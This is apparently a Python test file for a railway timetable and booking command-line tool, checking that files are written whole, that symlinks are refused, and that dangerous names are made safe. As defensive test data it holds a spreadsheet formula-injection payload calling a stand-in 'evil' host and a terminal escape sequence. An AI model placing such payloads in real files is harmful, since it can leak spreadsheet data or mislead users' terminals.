"""What a run writes comes at its end, whole, or not at all; no link is followed, and a name shows what is in it."""
from __future__ import annotations

import os
import stat
import subprocess
import sys

from harness import EXAMPLES, SOURCES, PlaceTest, needs
from nrm import Stop, said
from nrm.writing_files import Output
from records.made_export import ExportTest
from records.made_log import CUT_ONCE, HEADS

ESC = "\x1b]0;owned\x07\u202e"
SAID = "\\x1b]0;owned\\x07\\u202e"
LOG_EXAMPLE = EXAMPLES / "log"
NETWORK = LOG_EXAMPLE / "network.csv"
OF_TIMETABLE = "periods,1,1\nleg,A,9\nleg,B,9\nproduct,PA,10,A\nproduct,PB,20,B\ndemand,PA,1,1\ndemand,PB,1,2\n"
SOLD = ["--departs", "departure", "--booked", "booked on", "--product", "product", "--seats", "seats", "--cuts", "30,7",
        "--closures", str(EXAMPLES / "sales" / "closures.csv")]


class Outputs(PlaceTest):
    def test_all_come_at_the_end_or_none(self) -> None:
        one, other = str(self.folder / "one"), self.file("other", "before")
        with self.assertRaises(Stop), Output() as output:
            output.add(one, "new")
            output.add(other, "new")
            self.assertEqual((os.path.exists(one), self.text("other")), (False, "before"))
            raise Stop("refused")
        self.assertEqual((sorted(os.listdir(self.folder)), self.text("other")), (["other"], "before"))
        with Output() as output:
            output.add(one, "new")
            output.add(other, b"new")
        self.assertEqual((sorted(os.listdir(self.folder)), self.text("one"), self.text("other")),
                         (["one", "other"], "new", "new"))

    def test_a_link_is_not_followed(self) -> None:
        """To a file, to none, and one that comes while the run goes on; what it leads to is as it was."""
        self.file("another", "before")
        for target in ("another", "none"):
            link = self.folder / f"to-{target}"
            link.symlink_to(self.folder / target)
            with self.assertRaisesRegex(Stop, "is a link, and links aren't followed"), Output() as output:
                output.add(str(link), "new")
        late = self.folder / "late"
        with Output() as output:
            output.add(str(late), "new")
            late.symlink_to(self.folder / "another")
        self.assertEqual((self.text("another"), self.text("late"), late.is_symlink()), ("before", "new", False))
        self.assertFalse((self.folder / "none").exists())

    def test_rights_stay_and_a_device_is_one(self) -> None:
        path = self.file("secret", "before")
        os.chmod(path, 0o600)
        with Output() as output:
            output.add(path, "new")
            output.add(os.devnull, "new")
        self.assertEqual((stat.S_IMODE(os.stat(path).st_mode), self.text("secret")), (0o600, "new"))
        self.assertTrue(stat.S_ISCHR(os.stat(os.devnull).st_mode))

    def test_two_files_of_one_place_are_refused(self) -> None:
        with self.assertRaisesRegex(Stop, "would be written twice"), Output() as output:
            output.add(str(self.folder / "one"), "a")
            output.add(str(self.folder / "one"), "b")
        self.assertEqual(os.listdir(self.folder), [])

    def text(self, name: str) -> str:
        return (self.folder / name).read_text()


class Refused(PlaceTest):
    """A run that is refused, or whose network nobody gets, has written nothing."""

    def there(self) -> dict[str, str]:
        """The files of the folder beside those that the tests made blind."""
        return {it.name: it.read_text() for it in self.folder.iterdir() if it.is_file()}

    def test_demand(self) -> None:
        """Its network has no row for VB-Q."""
        rows = "".join(it for it in (LOG_EXAMPLE / "rows.csv").read_text().splitlines(True) if "VB-Q" not in it)
        self.file("rows.csv", rows)
        self.file("names.csv", "name,stands for\nOLD,gone\n")
        before = self.there()
        self.stopped("demand", EXAMPLES / "sales" / "bookings.csv", *SOLD, "--network", "rows.csv", "--names",
                     "names.csv", "--report", "report.csv", says="has no row for these products of the log")
        self.assertEqual(self.there(), before)

    def test_log(self) -> None:
        """Its network has no row for the product; then its list of names is in a folder that isn't there."""
        log = self.file("log.csv", HEADS + "2025-03-01,2025-03-07,new one,1\n")
        self.file("rows.csv", "periods,1,1\nleg,A,9\nproduct,P,10,A\n")
        before = self.there()
        words = [log, *CUT_ONCE, "--stream", "2025-03-07", "stream.txt"]
        self.stopped("log", *words, "--names", "names.csv", "--network", "rows.csv", says="has no row for these")
        done = self.ran("log", *words, "--names", "none/names.csv")
        self.assertEqual((done.out, done.status, self.there()), ("", 1, before), done.err)
        self.want_in(done.err, "none/names.csv: No such file or directory")
        self.stopped("log", *words, "--names", "stream.txt", says="stream.txt would be written twice")
        self.assertEqual(self.there(), before)

    def test_where_the_network_cant_be_written(self) -> None:
        log = self.file("log.csv", HEADS + "2025-03-01,2025-03-07,new one,1\n")
        before = self.there()
        with open("/dev/full", "wb") as full:
            process = self.process("log", log, *CUT_ONCE, "--names", "names.csv", stdout=full,
                                   stderr=subprocess.DEVNULL)
            self.assertEqual(process.wait(60), 1)
        self.assertEqual(self.there(), before)

    def test_split(self) -> None:
        """A link is in the place of the last file that it makes."""
        self.file("another", "before")
        (self.folder / "parts").mkdir()
        (self.folder / "parts" / "parts.csv").symlink_to(self.folder / "another")
        self.stopped("split", self.file("timetable.csv", OF_TIMETABLE), "parts", says="is a link")
        self.assertEqual((os.listdir(self.folder / "parts"), self.there()["another"]), (["parts.csv"], "before"))

    @needs("jinja2")
    def test_season(self) -> None:
        """Its page is a link to another file."""
        self.file("another", "before")
        (self.folder / "season.html").symlink_to(self.folder / "another")
        self.stopped("season", NETWORK, LOG_EXAMPLE / "commands.txt", *self.with_program, says="season.html is a link",
                     env=None)
        self.assertEqual(self.there(), {"another": "before", "season.html": "before"})


class Names(PlaceTest):
    def test_what_is_said_of_a_name(self) -> None:
        self.assertEqual(said(ESC + "Zürich\n"), SAID + "Zürich\\n")
        self.assertEqual(said("one\n    two\x1b", "\n"), "one\n    two\\x1b")

    def test_no_control_character_of_a_files_name_reaches_the_terminal(self) -> None:
        """Where the file is good, where it is none, and where it is a folder; of a word that is wrong too."""
        good = self.file(f"{ESC}good.csv", NETWORK.read_bytes())
        wrong = self.file(f"{ESC}wrong.csv", "leg,A\n")
        (self.folder / f"{ESC}folder").mkdir()
        for words in (["explain", good], ["explain", wrong], ["explain", f"{ESC}none"], ["explain", f"{ESC}folder"],
                      ["lp", wrong], ["lp", f"{ESC}none"], ["split", good, good], ["asked", good, good],
                      ["log", good, *CUT_ONCE], ["log", good, *CUT_ONCE, "--names", good], ["lp", good, ESC],
                      ["thresholds", good, ESC], [ESC]):
            done = self.finished(sys.executable, SOURCES, *words, env=self.blind())
            self.want_in(done.out + done.err, SAID)
            for it in ("\x1b", "\x07", "\u202e"):
                self.assertNotIn(it, done.out + done.err, f"{words}")


class Formulas(ExportTest):
    def test_a_list_of_names_has_no_formula(self) -> None:
        """A text that a spreadsheet would run has a ' before it, which isn't of the text where the list is read."""
        trains = ['=HYPERLINK("http://evil/"&A1)', "+1", "-1", "@SUM(A1)", "'=A1", "7"]
        rows = "".join(f'{at};sold;2025-03-01;2025-03-07;"{it.replace(chr(34), chr(34) * 2)}";A;B;Y;1;40,00 €\n'
                       for at, it in enumerate(trains))
        words = [self.export(rows), *self.words("--train", "Train", "--names", "names.csv")]
        self.file("seats.csv", "".join(f'"{it.replace(chr(34), chr(34) * 2)}";9\n' for it in trains))
        made = self.told("log", *words)
        listed = (self.folder / "names.csv").read_text()
        for text in ("\"'=HYPERLINK(\"\"http://evil/\"\"&A1) A - B\"", "'+1 A - B", "'-1 A - B", "'@SUM(A1) A - B",
                     "''=A1 A - B", "7 A - B"):
            self.want_in(listed, f",{text}\n")
        self.assertEqual(self.told("log", *words), made, "the names are known")
        self.assertEqual((self.folder / "names.csv").read_text(), listed)

    def test_a_name_that_begins_like_a_formula_is_read_again(self) -> None:
        log = self.file("log.csv", HEADS + "2025-03-01,2025-03-07,-A1,1\n")
        for _ in range(2):
            self.want_in(self.told("log", log, *CUT_ONCE, "--names", "names.csv"), "demand,-A1,1,")
            self.assertEqual((self.folder / "names.csv").read_text(), "name,stands for\n'-A1,'-A1\n")
